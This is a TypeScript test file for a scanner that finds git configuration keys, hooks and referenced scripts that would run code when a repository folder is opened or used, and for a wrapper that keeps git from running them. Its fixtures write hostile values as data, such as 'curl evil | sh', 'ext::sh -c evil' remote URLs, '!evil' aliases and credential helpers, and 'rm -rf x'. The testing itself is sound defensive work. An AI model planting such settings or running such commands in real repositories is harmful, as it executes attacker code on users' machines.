// What git runs by what a folder brings with it. What a clone has asks nothing.
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname } from 'node:path';
import { expect, test } from 'vitest';
import { tempFolder, type TempFolder } from '../../../../../../tests/support/tempFolder.ts';
import { gitConfigItems } from './gitConfig.ts';
import { quietGit } from './quietGit.ts';
import { whatRuns } from './whatRuns.ts';

const named = (config: string) => gitConfigItems(config).map(({ name, text }) => `${name}: ${text}`);

function write(folder: TempFolder, path: string, content: string | Uint8Array, mode = 0o644): void {
  mkdirSync(dirname(folder.at(path)), { recursive: true });
  writeFileSync(folder.at(path), content);
  chmodSync(folder.at(path), mode);
}

async function found(folder: TempFolder, cwd: string) {
  const { items } = await whatRuns({ HOME: folder.at('home') }, folder.at(cwd));
  return items.map(({ what, name, text, file }) => `${what} ${name} ${file}: ${text.split('\n').at(-1)}`);
}

test.each([
  ['[core]\n\tfsmonitor = ./evil.sh\n', ['git core.fsmonitor: ./evil.sh']],
  ['[core] fsmonitor=evil', ['git core.fsmonitor: evil']],
  ['[CORE]\nFSMonitor = evil', ['git core.fsmonitor: evil']],
  [
    '[core]\nsshCommand = \\\nevil',
    [
      'git core.sshcommand: \\',
      'git configuration: goes on in the next line, which cannot be judged:\nsshCommand = \\',
      'git core.evil: ',
    ],
  ],
  ['[filter.x "a\\"b"]\nclean = evil', ['git filter.x.a"b.clean: evil']],
  ['[remote "o"]\nurl = e"x"t::sh', ['git remote.o.url: e"x"t::sh']],
  ['[core]\nhooksPath = .hooks\npager = evil', ['git core.hookspath: .hooks', 'git core.pager: evil']],
  ['[diff]\nexternal = evil', ['git diff.external: evil']],
  ['[diff "x"]\ntextconv = evil', ['git diff.x.textconv: evil']],
  ['[filter "x"]\nclean = evil', ['git filter.x.clean: evil']],
  ['[filter.x]\nclean = evil', ['git filter.x.clean: evil']],
  ['[filter "lfs"]\nclean = evil %f', ['git filter.lfs.clean: evil %f']],
  ['[merge "x"]\ndriver = evil', ['git merge.x.driver: evil']],
  ['[alias]\nst = !evil', ['git alias.st: !evil']],
  ['[credential]\nhelper = !evil', ['git credential.helper: !evil']],
  ['[include]\npath = ../evil', ['git include.path: ../evil']],
  ['[remote "o"]\nurl = ext::sh -c evil', ['git remote.o.url: ext::sh -c evil']],
  ['[remote "o"]\nuploadpack = evil', ['git remote.o.uploadpack: evil']],
  ['[submodule "s"]\nupdate = !evil', ['git submodule.s.update: !evil']],
  ['[gpg]\nprogram = evil', ['git gpg.program: evil']],
  ['[gc]\nrecentObjectsHook = evil', ['git gc.recentobjectshook: evil']],
  ['[lfs "customtransfer.x"]\npath = evil', ['git lfs.customtransfer.x.path: evil']],
  ['[core\nfsmonitor = evil', ['git : [core', 'git fsmonitor: evil']],
])('[L12] runs something: %j', (config, expected) => {
  expect(named(config).map((line) => line.replace(/ {2,}/g, ' '))).toEqual(expected);
});

test.each([
  '[user]\n# \\\n[core]\n\tfsmonitor = ./evil',
  '[user]\n; \\\n[core]\n\tfsmonitor = ./evil',
  '[user] # \\\n[core]\n\tfsmonitor = ./evil',
  '[user]\nname = a\\\\\n[core]\nfsmonitor = ./evil',
  '[user]\nname = "a\\\\"\n[core]\nfsmonitor = ./evil',
  '[user]\nname = a # \\\n[core]\nfsmonitor = ./evil',
  '[core]\nbare = \\\n[user]\nfsmonitor = ./evil',
  '[core]\r\nbare = \\\r\n[user]\r\nfsmonitor = ./evil\r\n',
  '[user] [core]\nfsmonitor = ./evil',
  '[core] bare = "\u2028"\nfsmonitor = ./evil',
  '[user]\nname = a\\\nb = c\\\nd\n[core] fsmonitor = ./evil',
  '\uFEFF[core]\nfsmonitor = ./evil',
])('[L12] what git finds in a configuration is not hidden: %j', async (config) => {
  using folder = tempFolder();
  write(folder, 'repo/.git/config', config);
  const list = execFileSync('git', ['config', '-f', folder.at('repo/.git/config'), '--list'], { encoding: 'utf8' });
  expect(list).toContain('core.fsmonitor=./evil\n');
  expect(await found(folder, 'repo')).not.toEqual([]);
});

test('[L12] what a clone, its branches, submodules and git-lfs write is harmless', () => {
  const config = `[core]
	repositoryformatversion = 0
	filemode = true
	bare = false
	logallrefupdates = true
	fsmonitor = true
; a comment
[remote "origin"]
	url = git@github.com:someone/some.git
	fetch = +refs/heads/*:refs/remotes/origin/*
[branch "main"]
	remote = origin
	merge = refs/heads/main
	vscode-merge-base = origin/main
[submodule "docs"]
	active = true
	url = https://example.com/docs.git
[user]
	email = ana@example.com
[pull]
	rebase = true
[diff]
	algorithm = histogram
[filter "lfs"]
	clean = git-lfs clean -- %f
	smudge = git-lfs smudge -- %f
	required = true
[lfs "https://example.com/info/lfs"]
	access = basic
`;
  expect(named(config)).toEqual([]);
});

test('[L12] a repository that was just made or cloned has nothing to ask', async () => {
  using folder = tempFolder();
  execFileSync('git', ['init', '--quiet', folder.at('one')]);
  execFileSync('git', ['clone', '--quiet', folder.at('one'), folder.at('two')], { stdio: 'ignore' });
  write(folder, 'two/.git/hooks/post-merge', '#!/bin/sh\ngit lfs post-merge "$@"\n', 0o755);
  write(folder, 'two/.git/hooks/commit-msg', 'never run', 0o644);
  expect(await found(folder, 'two')).toEqual([]);
});

test('[L12] an archive with a repository in it brings what git runs, with the scripts that this names', async () => {
  using folder = tempFolder();
  execFileSync('git', ['init', '--quiet', folder.at('repo')]);
  write(folder, 'repo/.git/config', '[core]\nfsmonitor = ./tools/watch.sh\n');
  write(folder, 'repo/tools/watch.sh', 'curl evil | sh');
  write(folder, 'repo/.git/hooks/pre-commit', '#!/bin/sh\nsh tools/check.sh', 0o755);
  write(folder, 'repo/tools/check.sh', 'rm -rf x');
  write(folder, 'repo/.git/config.worktree', '[core]\nhooksPath = ".husky"\n');
  write(folder, 'repo/.husky/pre-push', 'curl evil', 0o755);
  for (const name of ['HEAD', 'objects/x', 'refs/x']) write(folder, `repo/.git/modules/libs/one/${name}`, '');
  write(folder, 'repo/.git/modules/libs/one/config', '[core]\nfsmonitor = evil\n');
  write(folder, 'repo/sub/a.txt', '');
  const inFolder = await found(folder, 'repo');
  expect(inFolder).toEqual([
    'helper git core.fsmonitor .git/config: ./tools/watch.sh',
    'helper git core.hookspath .git/config.worktree: ".husky"',
    'hook git pre-commit .git/hooks/pre-commit: sh tools/check.sh',
    'hook git pre-push .husky/pre-push: curl evil',
    'helper git core.fsmonitor .git/modules/libs/one/config: evil',
    'script named by git core.fsmonitor tools/watch.sh: curl evil | sh',
    'script named by git pre-commit tools/check.sh: rm -rf x',
  ]);
  expect(await found(folder, 'repo/sub')).toHaveLength(inFolder.length);
});

test('[L12] a folder that only looks like a repository is one to git, and a worktree has its repository’s', async () => {
  using folder = tempFolder();
  for (const name of ['HEAD', 'objects/x', 'refs/x', 'src/a.txt']) write(folder, `bare/${name}`, '');
  write(folder, 'bare/config', '[core]\nbare = false\nfsmonitor = evil\n');
  expect(await found(folder, 'bare/src')).toHaveLength(1);
  write(folder, 'main/.git/worktrees/tree/commondir', '../..\n');
  write(folder, 'main/.git/config', '[core]\nfsmonitor = evil\n');
  write(folder, 'tree/.git', `gitdir: ${folder.at('main')}/.git/worktrees/tree\n`);
  expect(await found(folder, 'tree')).toHaveLength(1);
});

const evil = '[core]\nfsmonitor = evil\n';
const asRepository = (folder: TempFolder, path: string) => {
  write(folder, `${path}/HEAD`, 'ref: refs/heads/main\n');
  for (const name of ['objects', 'refs']) mkdirSync(folder.at(`${path}/${name}`), { recursive: true });
};

test.each<[string, (folder: TempFolder) => void, RegExp]>([
  [
    'a path that ends in a blank',
    (folder) => {
      write(folder, 'repo/.git', 'gitdir: ../real \n');
      write(folder, 'real /config', evil);
    },
    /fsmonitor/,
  ],
  [
    'a shared folder whose name ends in a blank',
    (folder) => {
      write(folder, 'repo/.git/commondir', 'real ');
      write(folder, 'repo/.git/real /config', evil);
    },
    /fsmonitor/,
  ],
  [
    'a path through a link',
    (folder) => {
      write(folder, 'else/real/config', evil);
      write(folder, 'else/where/x', '');
      write(folder, 'repo/.git', 'gitdir: link/../real\n');
      symlinkSync(folder.at('else/where'), folder.at('repo/link'));
    },
    /fsmonitor/,
  ],
  [
    'a link to such a file',
    (folder) => {
      write(folder, 'repo/said', 'gitdir: ../real\n');
      symlinkSync('said', folder.at('repo/.git'));
      write(folder, 'real/config', evil);
    },
    /fsmonitor/,
  ],
  [
    'no UTF-8',
    (folder) => write(folder, 'repo/.git', Buffer.from('gitdir: \xff', 'latin1')),
    /judged .git: is not text/,
  ],
  ['a zero', (folder) => write(folder, 'repo/.git', 'gitdir: ../real\0'), /judged .git: has signs/],
  ['huge', (folder) => write(folder, 'repo/.git', `gitdir: ${'x'.repeat(1_000_000)}`), /judged .git: is larger/],
  ['a mark', (folder) => write(folder, 'repo/.git/commondir', '\uFEFFx'), /judged .git\/commondir: has signs/],
  [
    'no UTF-8 in commondir',
    (folder) => write(folder, 'repo/.git/commondir', Buffer.from([255])),
    /judged .git\/commondir: is not text/,
  ],
  [
    'too many modules',
    (folder) => {
      for (let index = 0; index < 301; index += 1) write(folder, `repo/.git/modules/${index}/x`, '');
    },
    /judged .git\/modules: holds more modules than are looked at/,
  ],
  [
    'a folder with its objects elsewhere',
    (folder) => {
      write(folder, 'repo/HEAD', 'ref: refs/heads/main\n');
      write(folder, 'repo/commondir', '../real');
      asRepository(folder, 'real');
      write(folder, 'real/config', evil);
    },
    /fsmonitor/,
  ],
])('[L12] where git looks is followed, or said: %s', async (_, make, expected) => {
  using folder = tempFolder();
  mkdirSync(folder.at('repo'));
  make(folder);
  expect((await found(folder, 'repo')).join('\n')).toMatch(expected);
});

test('[L12] git passes by what only has the name of a repository, and stops at the next', async () => {
  using folder = tempFolder();
  asRepository(folder, 'repo/.git');
  write(folder, 'repo/.git/config', evil);
  mkdirSync(folder.at('repo/sub/.git'), { recursive: true });
  expect(await found(folder, 'repo/sub')).toHaveLength(1);
  asRepository(folder, 'repo/sub/.git');
  expect(await found(folder, 'repo/sub')).toEqual([]);
  write(folder, 'repo/sub/.git/HEAD', 'nothing');
  expect(await found(folder, 'repo/sub')).toHaveLength(1);
});

test('[L12] without the settings of a folder, git runs nothing of them', async () => {
  using folder = tempFolder();
  execFileSync('git', ['init', '--quiet', folder.at('repo')]);
  const mark = folder.at('mark');
  write(folder, 'repo/.git/config', `[core]\nfsmonitor = touch ${mark} ||\n[filter "x"]\nclean = touch ${mark}; cat\n`);
  write(folder, 'repo/.gitattributes', '* filter=x\n');
  write(folder, 'repo/.git/hooks/pre-commit', `#!/bin/sh\ntouch ${mark}\n`, 0o755);
  const own = { PATH: process.env['PATH'] ?? '', HOME: folder.at('home') };
  const who = ['-c', 'user.name=a', '-c', 'user.email=b'];
  const commit = (env: Record<string, string>) => {
    rmSync(mark, { force: true });
    execFileSync('git', ['add', '.'], { cwd: folder.at('repo'), env, stdio: 'ignore' });
    execFileSync('git', [...who, 'commit', '--quiet', '--allow-empty', '-m', 'x'], { cwd: folder.at('repo'), env });
    return existsSync(mark);
  };
  const spec = { cwd: folder.at('repo') };
  expect(commit(await quietGit(own, { ...spec, folderTrust: 'without_settings' }))).toBe(false);
  expect(commit(await quietGit(own, { ...spec, folderTrust: 'trusted' }))).toBe(true);
});

const quiet = (folder: TempFolder) =>
  quietGit(
    { PATH: process.env['PATH'] ?? '', HOME: folder.at('home') },
    { cwd: folder.at('repo'), folderTrust: 'without_settings' },
  );

test.each<[string, string | Uint8Array, RegExp]>([
  ['no UTF-8', Buffer.from('[filter "x"]\nclean = evil \xff\n', 'latin1'), /is not text in UTF-8/],
  ['huge', `[filter "x"]\nclean = evil\n#${'x'.repeat(1_000_000)}`, /is larger than/],
  ['an include', '[include]\npath = ../evil\n', /it includes another file/],
  ['an include with a condition', '[includeIf "gitdir:/"]\npath = ../evil\n', /it includes another file/],
  ['a line that goes on', '[core]\nbare = \\\n[user]\nsshCommand = evil\n', /a line of it cannot be read/],
  ['two sections in a line', '[user] [core]\nsshCommand = evil\n', /a line of it cannot be read/],
  ['what cannot be replaced', '[remote "o"]\nuploadpack = evil\n', /remote\.o\.uploadpack cannot be replaced/],
])('[L12] no agent starts without the settings where git cannot be kept quiet: %s', async (_, config, why) => {
  using folder = tempFolder();
  execFileSync('git', ['init', '--quiet', folder.at('repo')]);
  write(folder, 'repo/.git/config', config);
  await expect(quiet(folder)).rejects.toMatchObject({ code: 'agent_unavailable', message: expect.stringMatching(why) });
});

test('[L12] nor where git’s folder cannot be found for sure', async () => {
  using folder = tempFolder();
  write(folder, 'repo/.git', Buffer.from('gitdir: \xff', 'latin1'));
  await expect(quiet(folder)).rejects.toMatchObject({ code: 'agent_unavailable' });
});

test('[L12] git goes on working without the settings', async () => {
  using folder = tempFolder();
  execFileSync('git', ['init', '--quiet', folder.at('repo')]);
  const config = `[alias]\nst = !evil\n[filter "a\\"b.c"]\nclean = evil\n[protocol]\nallow = always\n[remote "o"]\nurl = ext::evil\n`;
  write(folder, 'repo/.git/config', `${config}[core]\npager = evil\n[credential "https://x"]\nhelper = !evil\n`);
  const env = await quiet(folder);
  const git = (...words: string[]) => execFileSync('git', words, { cwd: folder.at('repo'), env, encoding: 'utf8' });
  git('status');
  expect(git('config', '--get', 'filter.a"b.c.clean')).toBe('\n');
  expect(git('config', '--get', 'protocol.ext.allow')).toBe('never\n');
  expect(git('remote', 'get-url', '--all', 'o')).toBe('ext::evil\n');
});
